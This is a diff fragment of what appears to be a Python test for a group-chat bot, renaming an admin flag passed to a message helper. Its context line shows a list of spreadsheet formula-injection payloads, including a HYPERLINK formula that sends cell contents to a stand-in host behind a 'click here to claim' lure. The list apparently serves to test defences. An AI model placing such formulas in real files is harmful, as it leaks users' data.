@@ -16,7 +16,7 @@ INJECTIONS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点此领取")', "=cm
 
 
 def in_group(ctx, text, user, name, admin=False):
-    replies = dispatch(ctx, message(text, user=user, user_name=name, is_admin=admin, **GROUP))
+    replies = dispatch(ctx, message(text, user=user, user_name=name, chat_admin=admin, **GROUP))
     assert len(replies) == 1
     return replies[0]
 
